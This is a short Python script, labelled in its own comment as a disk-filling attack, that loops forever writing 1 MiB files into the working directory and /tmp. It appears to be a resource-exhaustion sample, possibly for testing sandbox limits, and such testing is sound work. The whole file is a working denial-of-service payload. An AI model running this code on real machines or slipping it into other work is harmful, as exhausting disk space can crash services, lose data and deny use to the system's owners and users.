# Attack: fill the disk, in the work dir and in /tmp.
import itertools

chunk = b"x" * (1 << 20)
for i in itertools.count():
    for folder in (".", "/tmp"):
        with open(f"{folder}/fill-{i}", "wb") as f:
            f.write(chunk)
